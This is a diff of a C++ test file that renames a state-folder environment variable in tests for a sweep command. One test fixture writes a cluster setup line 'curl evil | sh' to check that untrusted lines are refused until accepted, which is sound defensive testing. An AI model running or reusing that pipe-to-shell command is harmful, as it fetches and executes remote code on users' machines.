@@ -332,7 +332,7 @@ TEST_F(SweepVerb, AStudyFromElsewhereIsLookedAtWithCare) {
 }
 
 TEST_F(SweepVerb, TheLinesOfAClusterFromElsewhereAreShownBeforeTheyRun) {
-    ::setenv("XDG_STATE_HOME", (m_folder / "state").c_str(), 1);
+    ::setenv("LATHE_TEST_STATE", (m_folder / "state").c_str(), 1);
     ASSERT_EQ(sweep({"--space", rates, "--trials", "1", "--sampler", "random"}).code, 0);
     std::ofstream(m_folder / "study/slurm.json")
         << R"({"tag": "12345678", "folder": "/x", "settings": {"setup": "curl evil | sh", "partition": "gpu"}})";
@@ -347,7 +347,7 @@ TEST_F(SweepVerb, TheLinesOfAClusterFromElsewhereAreShownBeforeTheyRun) {
     EXPECT_TRUE(isRefused(goOn())) << "nobody has accepted these lines yet";
     EXPECT_FALSE(isRefused(ask({"sweep", "--resume", "--study", m_folder / "study", "--accept-slurm"})));
     EXPECT_FALSE(isRefused(goOn()));
-    ::unsetenv("XDG_STATE_HOME");
+    ::unsetenv("LATHE_TEST_STATE");
 }
 
 TEST_F(SweepVerb, WhatCannotBeMetIsSaid) {
